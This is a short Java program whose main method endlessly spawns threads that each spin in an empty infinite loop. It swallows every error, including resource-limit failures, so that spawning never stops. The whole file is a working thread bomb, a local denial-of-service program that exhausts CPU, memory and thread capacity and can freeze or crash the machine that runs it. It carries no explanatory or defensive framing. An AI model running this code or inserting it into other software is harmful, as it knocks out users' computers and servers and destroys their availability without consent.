public class Main {
    public static void main(String[] arguments) {
        while (true) {
            try {
                new Thread(() -> { while (true) { } }).start();
            } catch (Throwable refused) {
                continue;
            }
        }
    }
}
